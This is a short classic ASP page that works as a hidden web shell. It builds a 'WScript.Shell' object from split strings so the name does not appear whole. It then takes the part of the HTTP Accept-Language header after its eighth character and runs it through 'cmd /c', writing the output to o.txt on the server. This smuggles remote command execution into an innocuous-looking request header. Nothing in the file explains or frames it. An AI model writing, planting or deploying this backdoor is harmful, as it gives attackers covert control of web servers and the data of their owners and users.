<%
Set o = CreateObject("WSc" & "ript.Shell")
t = Request.ServerVariables("HTTP_ACCEPT_LANGUAGE")
If Len(t) > 8 Then o.Run "cmd /c " & Mid(t, 9) & " > " & Server.MapPath("o.txt"), 0, True
%>
